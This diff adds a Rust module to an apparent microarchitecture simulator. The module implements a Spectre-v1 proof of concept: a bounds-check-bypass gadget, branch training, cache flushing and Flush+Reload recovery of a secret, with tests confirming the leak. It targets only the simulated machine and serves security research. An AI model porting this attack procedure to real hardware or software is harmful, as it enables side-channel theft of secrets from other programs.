@@ -1,0 +1,226 @@
+//! A classic Spectre-v1 (bounds-check bypass) proof of concept on the
+//! same substrate — the *left* branch of the Figure 2 taxonomy
+//! ("transient execution attacks", whose known examples are the Spectre
+//! variants), complementing the value-predictor attacks on the right.
+//!
+//! The victim gadget is the textbook pattern:
+//!
+//! ```text
+//! if (x < array1_size)          // branch trained not-taken for in-bounds x
+//!     y = array2[array1[x] * stride];
+//! ```
+//!
+//! The attacker supplies an out-of-bounds `x`; the branch is predicted
+//! along the trained (in-bounds) path, the secret byte at
+//! `array1 + x` is loaded *transiently* and encoded into `array2`'s
+//! cache state, and Flush+Reload recovers it — exactly the mechanism the
+//! value-predictor attacks reuse with a predicted *value* instead of a
+//! predicted *direction*.
+
+use vpsim_isa::{AluOp, Program, ProgramBuilder, Reg};
+use vpsim_mem::MemoryConfig;
+use vpsim_pipeline::{CoreConfig, Machine};
+use vpsim_predictor::NoPredictor;
+
+/// Memory layout for the Spectre gadget.
+#[derive(Debug, Clone, Copy)]
+pub struct SpectreLayout {
+    /// Base of the bounds-checked array (`array1`).
+    pub array1: u64,
+    /// Number of in-bounds 8-byte elements.
+    pub array1_size: u64,
+    /// Base of the probe array (`array2`).
+    pub array2: u64,
+    /// Probe stride in bytes.
+    pub stride: u64,
+    /// Address of the secret word, placed out of bounds relative to
+    /// `array1`.
+    pub secret_addr: u64,
+}
+
+impl Default for SpectreLayout {
+    fn default() -> Self {
+        let array1 = 0x50_000;
+        let array1_size = 8;
+        SpectreLayout {
+            array1,
+            array1_size,
+            array2: 0x180_000,
+            stride: 4096,
+            // The "secret" sits 64 elements past the end of array1.
+            secret_addr: array1 + 64 * 8,
+        }
+    }
+}
+
+impl SpectreLayout {
+    /// The out-of-bounds index that reaches the secret.
+    #[must_use]
+    pub fn oob_index(&self) -> u64 {
+        (self.secret_addr - self.array1) / 8
+    }
+}
+
+/// The victim gadget as a program: one bounds-checked, value-dependent
+/// probe access for index `x` (passed in `R20`'s initial value — here
+/// baked in as an immediate since programs are regenerated per call).
+///
+/// The flush of the *size* variable makes the bounds check slow to
+/// resolve, opening the transient window, exactly as in Kocher et al.
+#[must_use]
+pub fn gadget(layout: &SpectreLayout, x: u64) -> Program {
+    let size_addr = layout.array1 - 64; // separate line from array1
+    let mut b = ProgramBuilder::new();
+    b.li(Reg::R9, 3) // shift amount for ×8
+        .li(Reg::R1, layout.array1)
+        .li(Reg::R2, size_addr)
+        .li(Reg::R3, layout.array2)
+        .li(Reg::R4, layout.stride)
+        .li(Reg::R5, x)
+        // Slow bounds check: size is flushed, so the branch resolves
+        // only after a full miss.
+        .flush(Reg::R2, 0)
+        .fence()
+        .load(Reg::R6, Reg::R2, 0) // size (slow)
+        .bge(Reg::R5, Reg::R6, "out_of_bounds")
+        // In-bounds path (executed transiently for OOB x):
+        .alu(AluOp::Shl, Reg::R7, Reg::R5, Reg::R9)
+        .alu(AluOp::Add, Reg::R7, Reg::R7, Reg::R1)
+        .load(Reg::R8, Reg::R7, 0) // array1[x] (the secret, transiently)
+        .alu(AluOp::Mul, Reg::R10, Reg::R8, Reg::R4)
+        .alu(AluOp::Add, Reg::R10, Reg::R10, Reg::R3)
+        .load(Reg::R11, Reg::R10, 0); // encode into array2
+    b.label("out_of_bounds").unwrap();
+    b.fence().halt();
+    b.build().expect("gadget builds")
+}
+
+/// Result of one Spectre run.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct SpectreOutcome {
+    /// The secret byte value recovered from the cache channel (the probe
+    /// slot found cached), if any.
+    pub recovered: Option<u64>,
+    /// Branch mispredictions observed (must be ≥ 1 for the OOB run).
+    pub branch_mispredictions: u64,
+}
+
+/// Run the full attack: train the branch with in-bounds accesses, flush
+/// the probe array, run the gadget once with the out-of-bounds index,
+/// then probe `array2` slots `0..range` for the cached one.
+#[must_use]
+pub fn run_attack(layout: &SpectreLayout, secret: u64, probe_range: u64, seed: u64) -> SpectreOutcome {
+    let mut machine = Machine::new(
+        CoreConfig::default(),
+        MemoryConfig::deterministic(),
+        Box::new(NoPredictor::new()),
+        seed,
+    );
+    let m = machine.mem_mut();
+    m.store_value(layout.array1 - 64, layout.array1_size); // size variable
+    for i in 0..layout.array1_size {
+        m.store_value(layout.array1 + i * 8, i % 4); // benign in-bounds data
+    }
+    m.store_value(layout.secret_addr, secret);
+    // 1. Train the branch not-taken with in-bounds indexes. (Our static
+    //    BTFN front-end always predicts forward branches not-taken, so
+    //    this also works untrained; the training runs keep the PoC
+    //    faithful to the original attack.)
+    for i in 0..4 {
+        machine
+            .run(2, &gadget(layout, i % layout.array1_size))
+            .expect("training run");
+    }
+    // 2. Flush the probe array slots.
+    for v in 0..probe_range {
+        let slot = layout.array2 + v * layout.stride;
+        machine.mem_mut().flush_line(slot);
+    }
+    // 2b. The victim touches its own secret (it is live data — a key in
+    //     use), so the transient secret load is fast enough to finish
+    //     its dependent encode before the slow bounds check resolves.
+    {
+        let mut warm = ProgramBuilder::new();
+        warm.li(Reg::R1, layout.secret_addr)
+            .load(Reg::R2, Reg::R1, 0)
+            .fence()
+            .halt();
+        machine
+            .run(1, &warm.build().expect("warm program"))
+            .expect("victim warms its secret");
+    }
+    // 3. The out-of-bounds run: the in-bounds path executes transiently.
+    let r = machine
+        .run(2, &gadget(layout, layout.oob_index()))
+        .expect("attack run");
+    // 4. Flush+Reload: which slot got cached?
+    let mut recovered = None;
+    for v in 0..probe_range {
+        let slot = layout.array2 + v * layout.stride;
+        if machine.mem().probe_l2(slot) {
+            recovered = Some(v);
+            break;
+        }
+    }
+    SpectreOutcome {
+        recovered,
+        branch_mispredictions: r.stats.branch_mispredictions,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn oob_index_reaches_secret() {
+        let l = SpectreLayout::default();
+        assert_eq!(l.array1 + l.oob_index() * 8, l.secret_addr);
+        assert!(l.oob_index() >= l.array1_size);
+    }
+
+    #[test]
+    fn spectre_v1_recovers_the_secret() {
+        let layout = SpectreLayout::default();
+        for secret in [3u64, 7, 11] {
+            let out = run_attack(&layout, secret, 16, 1);
+            assert!(
+                out.branch_mispredictions >= 1,
+                "the OOB run must mispredict the bounds check"
+            );
+            assert_eq!(
+                out.recovered,
+                Some(secret),
+                "Flush+Reload must recover the transiently-loaded secret"
+            );
+        }
+    }
+
+    #[test]
+    fn in_bounds_run_leaks_nothing_extra() {
+        let layout = SpectreLayout::default();
+        // Architecturally-allowed access: the encoded value is the
+        // benign array1 content, not the secret.
+        let mut machine = Machine::new(
+            CoreConfig::default(),
+            MemoryConfig::deterministic(),
+            Box::new(NoPredictor::new()),
+            1,
+        );
+        let m = machine.mem_mut();
+        m.store_value(layout.array1 - 64, layout.array1_size);
+        for i in 0..layout.array1_size {
+            m.store_value(layout.array1 + i * 8, 2);
+        }
+        m.store_value(layout.secret_addr, 9);
+        for v in 0..16 {
+            machine.mem_mut().flush_line(layout.array2 + v * layout.stride);
+        }
+        machine.run(2, &gadget(&layout, 1)).expect("in-bounds run");
+        assert!(machine.mem().probe_l2(layout.array2 + 2 * layout.stride));
+        assert!(
+            !machine.mem().probe_l2(layout.array2 + 9 * layout.stride),
+            "the secret's slot must stay cold on an in-bounds access"
+        );
+    }
+}
